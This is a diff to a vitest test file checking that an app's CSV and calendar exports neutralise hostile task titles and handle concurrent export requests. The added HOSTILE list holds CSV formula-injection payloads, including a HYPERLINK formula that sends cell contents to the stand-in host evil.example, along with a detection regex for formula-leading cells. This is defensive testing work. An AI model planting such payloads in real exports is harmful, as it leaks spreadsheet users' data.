@@ -1,4 +1,5 @@
 // Exports by REST: what stands in the file, who may fetch it, how often, and for how long.
+import { randomUUID } from 'node:crypto';
 import { parse } from 'csv-parse/sync';
 import { expect, test } from 'vitest';
 import { exportedTables } from '../../../src/archive/exported-tables.ts';
@@ -248,6 +249,16 @@ const HOSTILE = [
   'BEGIN:VEVENT',
   'END:VCALENDAR',
   'x'.repeat(80),
+  'a;=HYPERLINK("http://evil.example/?"&A1);b',
+  'a;"=1"',
+  'a; +1',
+  'a;\n=1',
+  'a\t@x',
+  'a\n-1',
+  'a\r\n＝1;\u200B=2',
+  '";=1',
+  'a;";"=1',
+  'a;',
   '0',
   'null',
   'true',
@@ -255,6 +266,10 @@ const HOSTILE = [
   '-1e-9',
   '2026-01-01',
 ];
+
+/** Without the apostrophes, ours and theirs. */
+const words = (cell: string) => cell.replaceAll("'", '');
+const LENIENT = { relax_quotes: true, relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] };
 
 test('sixty hostile titles come back as they were, and no cell is a formula', async () => {
   const ana = await api.register();
@@ -271,11 +286,35 @@ test('sixty hostile titles come back as they were, and no cell is a formula', as
   expect(tasks.every(({ title, description }) => title === description)).toBe(true);
   const rows: string[][] = parse(entries.get('tasks.csv')!, { bom: true });
   const cells = rows.slice(1).map(([title]) => title!);
-  const asWritten = (cell: string) => (HOSTILE.includes(cell) ? cell : cell.replace(/^'/, ''));
-  expect(cells.map(asWritten).toSorted()).toEqual(HOSTILE.toSorted());
-  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s\u200B\uFEFF]*[=+\-@＝＋－＠]/);
+  expect(cells.map(words).toSorted()).toEqual(HOSTILE.map(words).toSorted());
+  // Where commas part cells, and where other signs do and our quotes stand anywhere.
+  for (const delimiter of [',', ';', '\t']) {
+    const read: string[][] = parse(entries.get('tasks.csv')!, { bom: true, delimiter, ...LENIENT });
+    for (const cell of read.flat()) expect(cell).not.toMatch(/^["\s\u200B\uFEFF]*[=+\-@＝＋－＠]/);
+  }
   expect(readByIcalJs(entries.get('calendar.ics')!)).toHaveLength(HOSTILE.length);
   expect([...entries.keys()]).toEqual(NAMES);
+});
+
+test('asked for elsewhere meanwhile, the answer says which one runs and where', async () => {
+  const ana = await api.register();
+  const team = await ana.expect(201, 'POST', '/v1/orgs', { name: 'The team' });
+  const { organisation } = await ana.expect(200, 'GET', '/v1/auth/me');
+  const id = randomUUID();
+  await admin.query(
+    `insert into account_exports (id, org_id, user_id, running_for) values ($1, $2, $3, $3)`,
+    [id, team.id, ana.userId],
+  );
+  const here = await ana.call('POST', '/v1/me/exports', { password: PASSWORD });
+  expect(here).toMatchObject({
+    status: 409,
+    body: { code: 'EXPORT_RUNNING', export_id: id, org_id: team.id },
+  });
+  const inTeam = { 'x-org-id': team.id };
+  expect((await ana.call('DELETE', `/v1/me/exports/${id}`, undefined, inTeam)).status).toBe(204);
+  await ana.call('POST', '/v1/me/exports', { password: PASSWORD }, { 'x-org-id': organisation.id });
+  const stranger = await api.register();
+  expect((await stranger.call('POST', '/v1/me/exports', { password: PASSWORD })).status).toBe(202);
 });
 
 test('the file is a zip to a reader of another maker', async () => {
